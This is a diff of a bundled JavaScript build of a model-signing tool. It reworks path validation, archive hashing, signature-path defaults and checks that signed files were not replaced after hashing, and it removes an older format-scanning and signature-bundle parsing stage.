-    if (kind === "zip") {
-      await src.close();
-      return report(file, size, await scanZip(abs, size, file, limits));
-    }
-    return report(file, size, await scanStream(src, kind, size, file, limits));
-  } finally {
-    await src.close();
+    throw modelPathError(model, e);
   }
 }
-var OPAQUE_ARCHIVE;
-var init_scan_file = __esm({
-  "src/scan/scan-file.ts"() {
+var init_model_path = __esm({
+  "src/hashing/model-path.ts"() {
     "use strict";
-    init_detect();
-    init_gguf();
-    init_npy();
-    init_pickle();
-    init_safetensors();
-    init_source2();
-    init_zip();
-    OPAQUE_ARCHIVE = /\.(?:tar\.[a-z0-9]+|tzst|tbz2?|txz|zst|bz2|xz|lz4|7z|rar|gz|br)$/i;
+    init_errors();
+  }
+});
+
+// src/sign/signature-path.ts
+import path10 from "node:path";
+async function defaultSignaturePath(model) {
+  if ((await statModel(model)).isDirectory()) return path10.join(model, "model.sig");
+  return `${model}.sig`;
+}
+var init_signature_path = __esm({
+  "src/sign/signature-path.ts"() {
+    "use strict";
+    init_model_path();
+  }
+});
+
+// src/hashing/paths.ts
+import path11 from "node:path";
+function compareCodePoints(a, b2) {
+  const n = a.length < b2.length ? a.length : b2.length;
+  for (let i = 0; i < n; i++) {
+    const x = a.charCodeAt(i);
+    const y = b2.charCodeAt(i);
+    if (x === y) continue;
+    if ((x & 63488) !== 55296 && (y & 63488) !== 55296) return x < y ? -1 : 1;
+    const from = i > 0 && (a.charCodeAt(i - 1) & 64512) === 55296 ? i - 1 : i;
+    return compareFrom(a, b2, from);
+  }
+  return a.length === b2.length ? 0 : a.length < b2.length ? -1 : 1;
+}
+function compareFrom(a, b2, i) {
+  let j2 = i;
+  let k2 = i;
+  for (; ; ) {
+    if (j2 >= a.length || k2 >= b2.length) return j2 >= a.length && k2 >= b2.length ? 0 : j2 >= a.length ? -1 : 1;
+    const x = a.codePointAt(j2);
+    const y = b2.codePointAt(k2);
+    if (x !== y) return x < y ? -1 : 1;
+    j2 += x > 65535 ? 2 : 1;
+    k2 += y > 65535 ? 2 : 1;
+  }
+}
+function unsafeNameReason(name2) {
+  if (name2.length === 0) return "empty name";
+  if (name2.length > 4096) return "name longer than 4096 characters";
+  if (name2.startsWith("/")) return "absolute path";
+  if (/^[A-Za-z]:/.test(name2)) return "drive-letter path";
+  if (name2.includes("\\")) return "backslash in name";
+  if (/[\u0000-\u001f\u007f]/.test(name2)) return "control character in name";
+  if (new RegExp("\\p{Cs}", "u").test(name2)) return "lone UTF-16 surrogate in name (not valid Unicode)";
+  for (const seg of name2.split("/")) {
+    if (seg === "") return "empty path segment";
+    if (seg === "..") return '".." segment';
+    if (seg === ".") return '"." segment';
+    if (/^[. ]+$/.test(seg)) return "segment of only dots and spaces";
+  }
+  return void 0;
+}
+function normaliseIgnorePath(p2) {
+  let s3 = p2.replace(/\\/g, "/");
+  while (s3.startsWith("./")) s3 = s3.slice(2);
+  while (s3.length > 1 && s3.endsWith("/")) s3 = s3.slice(0, -1);
+  return s3;
+}
+function isIgnored(name2, ignorePaths) {
+  for (const p2 of ignorePaths) {
+    if (p2 === "" || p2 === ".") continue;
+    if (name2 === p2 || name2.startsWith(p2 + "/")) return true;
+  }
+  return false;
+}
+function effectiveIgnores(model, signaturePath, signed, user) {
+  const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
+  const rel = path11.relative(path11.resolve(model), path11.resolve(signaturePath));
+  if (rel && !rel.startsWith("..") && !path11.isAbsolute(rel)) out2.add(rel.split(path11.sep).join("/"));
+  return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
+}
+var DEFAULT_IGNORES;
+var init_paths = __esm({
+  "src/hashing/paths.ts"() {
+    "use strict";
+    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore"];
+  }
+});
+
+// src/hashing/source.ts
+var init_source2 = __esm({
+  "src/hashing/source.ts"() {
+    "use strict";
+    init_ranges();
   }
 });
 
@@ -54793,7 +54943,7 @@ function Yn(s3, t) {
 function Kn(s3, t) {
   s3.head = new ue(t, void 0, s3.head, s3), s3.tail || (s3.tail = s3.head), s3.length++;
 }
-var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os4, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
+var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os5, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
 var init_index_min = __esm({
   "node_modules/tar/dist/esm/index.min.js"() {
     zr = Object.defineProperty;
@@ -56231,7 +56381,7 @@ var init_index_min = __esm({
     si = Symbol("onlstat");
     rs = Symbol("onread");
     ns = Symbol("onreadlink");
-    os4 = Symbol("openfile");
+    os5 = Symbol("openfile");
     hs = Symbol("onopenfile");
     pt = Symbol("close");
     ri = Symbol("mode");
@@ -56346,9 +56496,9 @@ var init_index_min = __esm({
           this.linkCache.set(t, this.absolute);
         }
         if (this[fe](), this.stat.size === 0) return this.end();
-        this[os4]();
+        this[os5]();
       }
-      [os4]() {
+      [os5]() {
         X.open(this.absolute, "r", (t, e) => {
           if (t) return this.emit("error", t);
           this[hs](e);
@@ -56411,7 +56561,7 @@ var init_index_min = __esm({
       [is]() {
         this[ns](X.readlinkSync(this.absolute));
       }
-      [os4]() {
+      [os5]() {
         this[hs](X.openSync(this.absolute, "r"));
       }
       [ii]() {
@@ -57723,18 +57873,9 @@ var init_index_min = __esm({
 });
 
 // src/hashing/archive.ts
-var archive_exports = {};
-__export(archive_exports, {
-  EMBEDDED_SIGNATURE: () => EMBEDDED_SIGNATURE,
-  TarFeed: () => TarFeed,
-  archiveSourceFor: () => archiveSourceFor,
-  isArchivePath: () => isArchivePath,
-  paxRecordProblem: () => paxRecordProblem,
-  scanArchive: () => scanArchive
-});
 import { constants as constants4 } from "node:fs";
-import { open as open4, stat as stat5 } from "node:fs/promises";
-import path10 from "node:path";
+import { open as open4, stat as stat6 } from "node:fs/promises";
+import path12 from "node:path";
 import { Transform } from "node:stream";
 import { createGunzip } from "node:zlib";
 function isArchivePath(p2) {
@@ -57743,7 +57884,7 @@ function isArchivePath(p2) {
 async function archiveSourceFor(model) {
   if (!isArchivePath(model)) return void 0;
   try {
-    if (!(await stat5(model)).isFile()) return void 0;
+    if (!(await stat6(model)).isFile()) return void 0;
   } catch {
   }
   return (req) => scanArchive(model, req);
@@ -57880,7 +58021,7 @@ async function openArchive(file) {
   return { fh, size: st2.size };
 }
 async function scanPass(file, req, initial, maxEntries) {
-  const root = path10.resolve(file);
+  const root = path12.resolve(file);
   const { fh, size: archiveSize } = await openArchive(root);
   const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
   const problems = [];
@@ -58196,7 +58337,7 @@ async function scanPass(file, req, initial, maxEntries) {
         req.onProgress(rs2.bytesRead, archiveSize);
       }
     });
-    const finish = (err) => {
+    const finish2 = (err) => {
       if (finished) return;
       finished = true;
       if (err !== void 0) {
@@ -58227,7 +58368,7 @@ async function scanPass(file, req, initial, maxEntries) {
           onEntry(entry);
         } catch (e) {
           entry.resume();
-          finish(e);
+          finish2(e);
         }
       }
     });
@@ -58256,8 +58397,8 @@ async function scanPass(file, req, initial, maxEntries) {
         problems.push({ code: "UNSUPPORTED_ENTRY", message: "archive extended header describes a GNU sparse file (GNU.sparse.*), which other tar readers rename" });
       }
     });
-    parser.on("error", (e) => finish(e));
-    parser.on("end", () => finish());
+    parser.on("error", (e) => finish2(e));
+    parser.on("end", () => finish2());
     rs2.on("error", (e) => {
       if (finished) return;
       finished = true;
@@ -58265,9 +58406,9 @@ async function scanPass(file, req, initial, maxEntries) {
     });
     const gunzip = gzipped ? createGunzip() : void 0;
     const feed = new TarFeed(gunzip ? () => gunzip.bytesWritten : void 0);
-    feed.on("error", (e) => finish(e));
+    feed.on("error", (e) => finish2(e));
     if (gunzip) {
-      gunzip.on("error", (e) => finish(e));
+      gunzip.on("error", (e) => finish2(e));
       rs2.pipe(gunzip).pipe(feed);
     } else {
       rs2.pipe(feed);
@@ -58283,7 +58424,7 @@ var init_archive = __esm({
     init_model_path();
     init_algorithms2();
     init_paths();
-    init_source();
+    init_source2();
     ARCHIVE_RE = /\.(tar|tar\.gz|tgz)$/i;
     DEFAULT_MAX_ENTRIES = 1e6;
     MAX_DECOMPRESSION_RATIO = 1e3;
@@ -58357,629 +58498,715 @@ var init_archive = __esm({
   }
 });
 
-// src/scan/tar.ts
-import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
-import { mkdtemp, rm } from "node:fs/promises";
-import os5 from "node:os";
-import path11 from "node:path";
-import { once } from "node:events";
-async function spool(src, dest) {
-  const ws2 = createWriteStream(dest, { mode: 384 });
-  try {
-    while (await src.ensure(1)) {
-      if (!ws2.write(Buffer.from(src.take(src.buffered)))) await once(ws2, "drain");
-    }
-  } finally {
-    ws2.end();
-    await once(ws2, "close");
+// src/source/verified-file.ts
+import { constants as constants5 } from "node:fs";
+import { open as open5 } from "node:fs/promises";
+function identityProblem(file, st2) {
+  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: file.name, message: "not a regular file" };
+  if (file.id && (st2.dev !== file.id.dev || st2.ino !== file.id.ino)) return { code: "FILE_REPLACED", path: file.name, message: REOPEN.replaced };
+  if (st2.size !== file.size || file.stamp && (st2.mtimeMs !== file.stamp.mtimeMs || st2.ctimeMs !== file.stamp.ctimeMs)) {
+    return { code: "FILE_CHANGED_DURING_HASH", path: file.name, message: REOPEN.changed };
   }
-}
-async function scanTar(archive, limits) {
-  const reports = [];
-  const findings = [];
-  let refused = 0;
-  const base2 = path11.basename(archive);
-  let tmp;
-  let chain = Promise.resolve();
-  let failure;
-  const handle = async (entry) => {
-    const name2 = `${base2}:${entry.path}`;
-    if (entry.type !== "File" && entry.type !== "OldFile" && entry.type !== "ContiguousFile") {
-      if (entry.type === "SymbolicLink" || entry.type === "Link") {
-        refused++;
-        findings.push({ code: "SCAN_SKIPPED", severity: "medium", file: name2, message: `${entry.type === "Link" ? "hard link" : "symlink"} to ${JSON.stringify(entry.linkpath ?? "")} is not scanned` });
-      }
-      entry.resume();
-      return;
-    }
-    if (reports.length >= limits.maxFiles) {
-      refused++;
-      if (!findings.some((f2) => f2.code === "SCAN_LIMIT" && f2.message.startsWith("more than"))) {
-        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `more than ${limits.maxFiles} files in the archive; this entry and later ones are not scanned` });
-      }
-      entry.resume();
-      return;
-    }
-    const src = ByteSource.fromIterable(entry, entry.size);
-    await src.ensure(SNIFF_BYTES);
-    const kind = sniff(src.peek(SNIFF_BYTES), entry.path);
-    if (kind === "zip") {
-      if (entry.size > limits.maxMemberBytes) {
-        refused++;
-        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `zip member of ${entry.size} bytes is over the ${limits.maxMemberBytes}-byte limit for copying out of the archive; not scanned` });
-        await src.drain();
-        return;
-      }
-      let dest;
-      try {
-        tmp ??= await mkdtemp(path11.join(os5.tmpdir(), "modelsign-scan-"));
-        dest = path11.join(tmp, "member.zip");
-        await spool(src, dest);
-      } catch (e) {
-        const code = errnoCode(e);
-        if (code === void 0) throw e;
-        if (dest) await rm(dest, { force: true });
-        refused++;
-        findings.push({ code: "SCAN_SKIPPED", severity: "high", file: name2, message: `zip member cannot be copied out of the archive to scan it (${code}; set TMPDIR to a writable directory); not scanned` });
-        await src.drain();
-        return;
-      }
-      try {
-        reports.push(report(name2, entry.size, await scanZip(dest, entry.size, name2, limits)));
-      } finally {
-        await rm(dest, { force: true });
-      }
-      return;
-    }
-    reports.push(report(name2, entry.size, await scanStream(src, kind, entry.size, name2, limits)));
-    await src.drain();
-  };
-  try {
-    const { Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
-    const parser = new Parser({
-      strict: true,
-      onReadEntry: (entry) => {
-        chain = chain.then(() => handle(entry)).catch((e) => {
-          failure ??= e;
-          entry.resume();
-        });
-      }
-    });
-    parser.on("ignoredEntry", (entry) => {
-      refused++;
-      const what = entry.meta ? "an oversized extended header" : `a ${entry.type} entry, which modelsign does not read`;
-      findings.push({ code: "SCAN_SKIPPED", severity: "high", file: `${base2}:${entry.path}`, message: `not scanned: ${what}; an extractor may still write it` });
-    });
-    const done = new Promise((resolve, reject2) => {
-      parser.on("end", resolve);
-      parser.on("error", reject2);
-      parser.on("close", resolve);
-    });
-    const input = createReadStream2(archive);
-    input.on("error", (e) => parser.emit("error", e));
-    input.pipe(parser);
-    try {
-      await done;
-    } catch (e) {
-      findings.push({ code: "TAR_MALFORMED", severity: "high", file: base2, message: `archive cannot be read: ${e.message}` });
-    }
-    await chain;
-    if (failure) throw failure;
-  } finally {
-    if (tmp) await rm(tmp, { recursive: true, force: true });
-  }
-  return { reports, findings, refused };
-}
-var init_tar = __esm({
-  "src/scan/tar.ts"() {
-    "use strict";
-    init_errors();
-    init_detect();
-    init_scan_file();
-    init_source2();
-    init_archive();
-  }
-});
-
-// src/scan/stage.ts
-var stage_exports2 = {};
-__export(stage_exports2, {
-  DENIABLE_FORMATS: () => DENIABLE_FORMATS,
-  formatsStage: () => formatsStage
-});
-import path12 from "node:path";
-function signedFiles(ctx) {
-  const out2 = /* @__PURE__ */ new Set();
-  for (const r of ctx.statement.resources) {
-    if (ctx.statement.serialization.method === "shards") {
-      const s3 = parseShardName(r.name);
-      if (s3) out2.add(s3.path);
-    } else out2.add(r.name);
-  }
-  return [...out2];
-}
-function denied(report2, deny) {
-  if (deny.has("pickle") && (report2.pickle || report2.format === "pytorch")) return report2.format === "pickle" ? "pickle" : `pickle (inside ${report2.format})`;
-  if (deny.has(report2.format)) return report2.format;
   return void 0;
 }
-function formatsStage(formats, limits = {}) {
-  const deny = new Set((formats.deny ?? []).map((d) => d.toLowerCase()));
-  for (const d of deny) {
-    if (!DENIABLE_FORMATS.includes(d)) {
-      throw usage("POLICY_INVALID", `formats.deny: unknown format "${d}" (known: ${DENIABLE_FORMATS.join(", ")})`);
-    }
-  }
-  const scan = formats.scan === true;
-  const failOn = formats.failOn ?? "low";
-  if (!SEVERITIES.includes(failOn)) throw usage("POLICY_INVALID", `formats.failOn: unknown severity "${String(failOn)}" (known: ${SEVERITIES.join(", ")})`);
-  const lim = { ...DEFAULT_LIMITS, ...limits };
-  return async (ctx) => {
-    if (!scan && deny.size === 0) return [];
-    const ser = ctx.statement.serialization;
-    const listing = ctx.options.listing ?? await enumerateModel(ctx.options.model, { ignorePaths: [], allowSymlinks: ser.allow_symlinks });
-    const byName = new Map(listing.files.map((f2) => [f2.name, f2]));
-    const failures = [];
-    const reports = [];
-    const judge = (report2, shown, findings) => {
-      if (report2) reports.push(report2);
-      const why2 = report2 && denied(report2, deny);
-      if (why2) failures.push({ code: "FORMAT_DENIED", path: shown, message: `policy denies ${why2} files` });
-      if (scan) {
-        for (const x of findings) {
-          if (severityRank(x.severity) < severityRank(failOn)) continue;
-          failures.push({ code: "SCAN_FINDING", path: shown, message: clean(`${x.severity}: ${x.member !== void 0 ? `${x.member}: ` : ""}${x.message} [${x.code}]`, 2e3) });
-        }
-      }
-    };
-    const single = listing.isFile ? listing.files[0] : void 0;
-    if (single && isArchivePath(single.abs)) {
-      const base2 = path12.basename(single.abs);
-      const t = await scanTar(single.abs, lim);
-      const entryName = (file) => file.startsWith(`${base2}:`) ? file.slice(base2.length + 1).replace(/^(?:\.\/)+/, "") : file;
-      for (const r of t.reports) judge(r, entryName(r.file), r.findings);
-      for (const x of t.findings) {
-        judge(void 0, entryName(x.file), [x]);
-        if (deny.size > 0 && severityRank(x.severity) >= severityRank("high")) {
-          failures.push({ code: "FORMAT_UNCHECKED", path: entryName(x.file), message: clean(`cannot tell whether this is a denied format: ${x.message}`, 2e3) });
-        }
-      }
-    } else {
-      for (const name2 of signedFiles(ctx)) {
-        const f2 = single ?? byName.get(name2);
-        if (!f2) continue;
-        const shown = single ? path12.basename(f2.name) : name2;
-        const report2 = await scanFile(f2.abs, shown, lim);
-        judge(report2, shown, report2.findings);
-        if (single) break;
-      }
-    }
-    ctx.result.extra.scan = reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
-    return failures;
-  };
-}
-var init_stage2 = __esm({
-  "src/scan/stage.ts"() {
-    "use strict";
-    init_errors();
-    init_enumerate();
-    init_files();
-    init_one_line();
-    init_scan_file();
-    init_tar();
-    init_types();
-    init_types();
-  }
-});
-
-// src/policy/formats.ts
-var formats_exports = {};
-__export(formats_exports, {
-  formatsStages: () => formatsStages
-});
-async function formatsStages(formats) {
-  if (!formats) return [];
-  const { formatsStage: formatsStage2 } = await Promise.resolve().then(() => (init_stage2(), stage_exports2));
-  return [formatsStage2(formats)];
-}
-var init_formats = __esm({
-  "src/policy/formats.ts"() {
-    "use strict";
-  }
-});
-
-// src/util/base64.ts
-function isStrictBase64(s3) {
-  const n = s3.length;
-  if (n % 4 !== 0) return false;
-  let end = n;
-  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
-  return ALPHABET_ONLY.test(end === n ? s3 : s3.slice(0, end));
-}
-function decodeBase64(s3, what, code = "SIG_MALFORMED") {
-  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
-  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
-  return Buffer.from(clean5, "base64");
-}
-var ALPHABET_ONLY;
-var init_base64 = __esm({
-  "src/util/base64.ts"() {
-    "use strict";
-    init_errors();
-    ALPHABET_ONLY = /^[A-Za-z0-9+/]*$/;
-  }
-});
-
-// src/oms/dsse.ts
-function pae(payloadType, payload) {
-  const type = Buffer.from(payloadType, "utf8");
-  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
-  return Buffer.concat([head, payload]);
-}
-var IN_TOTO_PAYLOAD_TYPE;
-var init_dsse = __esm({
-  "src/oms/dsse.ts"() {
-    "use strict";
-    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
-  }
-});
-
-// src/oms/bundle.ts
-import { stat as stat6 } from "node:fs/promises";
-function buildBundle(input) {
-  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
-  return {
-    mediaType: BUNDLE_MEDIA_TYPE,
-    verificationMaterial,
-    dsseEnvelope: {
-      payload: input.payload.toString("base64"),
-      payloadType: IN_TOTO_PAYLOAD_TYPE,
-      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
-    }
-  };
-}
-function serializeBundle(bundle) {
-  return JSON.stringify(bundle, null, 2) + "\n";
-}
-async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
+async function withVerifiedFile(file, use) {
+  let fh;
   try {
-    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
+    fh = await open5(file.abs, constants5.O_RDONLY | O_NOFOLLOW2 | O_NONBLOCK2);
   } catch (e) {
-    if (e instanceof NotRegularFile) {
-      const isDir = await stat6(file).then((st2) => st2.isDirectory(), () => false);
-      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
-      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
-    }
-    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
     const c = errnoCode(e);
-    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
-    if (c === "ELOOP" && opts.noFollow) {
-      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
-    }
-    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
+    if (c === "ELOOP") return { code: "FILE_IS_SYMLINK", path: file.name, message: "file was replaced by a symlink" };
+    if (c === "ENOENT") return { code: "FILE_MISSING", path: file.name, message: "file disappeared after it was hashed" };
+    return { code: "FILE_UNREADABLE", path: file.name, message: `cannot open: ${c ?? String(e)}` };
   }
-}
-function bad2(msg) {
-  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
-}
-function parseBundle(bytes) {
-  if (bytes.length === 0) bad2("file is empty");
-  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
-  let text;
   try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
-  } catch {
-    bad2("not UTF-8");
-  }
-  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
-  if (!isObject(json)) bad2("not a JSON object");
-  const mediaType = json.mediaType;
-  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad2("missing or unknown mediaType");
-  const vm = json.verificationMaterial;
-  if (!isObject(vm)) bad2("verificationMaterial missing");
-  let material;
-  if (isObject(vm.publicKey)) {
-    const pk = vm.publicKey;
-    material = { kind: "publicKey" };
-    if (pk.hint !== void 0) {
-      if (typeof pk.hint !== "string") bad2("publicKey.hint must be a string");
-      material.hint = pk.hint;
+    const before = identityProblem(file, await fh.stat());
+    if (before) return before;
+    const ra = handleReader(fh, file.size);
+    try {
+      await use({ file: { name: file.name, size: file.size, viaLink: file.viaLink }, bytes: () => ByteSource.fromRandom(ra), random: ra });
+    } catch (e) {
+      const c = errnoCode(e);
+      if (c === void 0 || !/^E[A-Z0-9]+$/.test(c)) throw e;
+      return { code: "FILE_UNREADABLE", path: file.name, message: `cannot read: ${c}` };
     }
-    if (pk.rawBytes !== void 0) {
-      if (typeof pk.rawBytes !== "string") bad2("publicKey.rawBytes must be a string");
-      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
-    }
-    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
-  } else if (isObject(vm.x509CertificateChain)) {
-    const certs = vm.x509CertificateChain.certificates;
-    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad2("x509CertificateChain.certificates must hold 1 to 16 certificates");
-    material = {
-      kind: "x509CertificateChain",
-      certificates: certs.map((c, i) => {
-        if (!isObject(c) || typeof c.rawBytes !== "string") bad2(`certificate ${i} has no rawBytes`);
-        return decodeBase64(c.rawBytes, `certificate ${i}`);
-      })
-    };
-  } else if (isObject(vm.certificate)) {
-    if (typeof vm.certificate.rawBytes !== "string") bad2("certificate.rawBytes missing");
-    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
-  } else {
-    bad2("verificationMaterial has no publicKey, x509CertificateChain or certificate");
+    return identityProblem(file, await fh.stat());
+  } finally {
+    await fh.close();
   }
-  const env = json.dsseEnvelope;
-  if (!isObject(env)) {
-    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
-    bad2("dsseEnvelope missing");
-  }
-  if (typeof env.payloadType !== "string") bad2("dsseEnvelope.payloadType missing");
-  if (typeof env.payload !== "string" || env.payload.length === 0) bad2("dsseEnvelope.payload missing");
-  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
-  const sigs = env.signatures;
-  if (!Array.isArray(sigs) || sigs.length === 0) bad2("dsseEnvelope.signatures is empty");
-  if (sigs.length > 16) bad2("too many signatures");
-  const signatures = sigs.map((s3, i) => {
-    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad2(`signature ${i} has no sig`);
-    const keyid = s3.keyid;
-    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad2(`signature ${i} keyid must be a string or null`);
-    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
-  });
-  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
 }
-var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
-var init_bundle = __esm({
-  "src/oms/bundle.ts"() {
+var O_NOFOLLOW2, O_NONBLOCK2, REOPEN;
+var init_verified_file = __esm({
+  "src/source/verified-file.ts"() {
     "use strict";
-    init_read_file();
     init_errors();
-    init_base64();
-    init_strict_json();
-    init_dsse();
-    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
-    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
+    init_source();
+    init_random_access();
+    O_NOFOLLOW2 = constants5.O_NOFOLLOW ?? 0;
+    O_NONBLOCK2 = constants5.O_NONBLOCK ?? 0;
+    REOPEN = {
+      replaced: "a different file was found at this path than the one hashed (replaced after hashing)",
+      changed: "file was written after it was hashed"
+    };
   }
 });
 
-// src/lineage/store.ts
-import { createHash as createHash4 } from "node:crypto";
-import { lstat as lstat4, opendir, stat as stat7 } from "node:fs/promises";
-import path14 from "node:path";
-function bundleDigestOf(bytes) {
-  return `sha256:${createHash4("sha256").update(bytes).digest("hex")}`;
-}
-async function openStore(dir) {
+// src/source/local-read.ts
+import { lstat as lstat3, realpath } from "node:fs/promises";
+import path13 from "node:path";
+async function statInside(root, name2, allowSymlinks) {
+  const missing = { code: "FILE_MISSING", path: name2, message: "signed file is missing" };
+  let cur = root;
+  let viaLink = false;
+  for (const seg of name2.split("/")) {
+    cur = path13.join(cur, seg);
+    let st3;
+    try {
+      st3 = await lstat3(cur);
+    } catch {
+      return missing;
+    }
+    if (st3.isSymbolicLink()) {
+      if (!allowSymlinks) return { code: "SYMLINK_REFUSED", path: name2, message: "signed path goes through a symlink" };
+      viaLink = true;
+    }
+  }
+  let abs = cur;
+  if (viaLink) {
+    try {
+      abs = await realpath(cur);
+    } catch {
+      return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
+    }
+    const rootReal = await realpath(root);
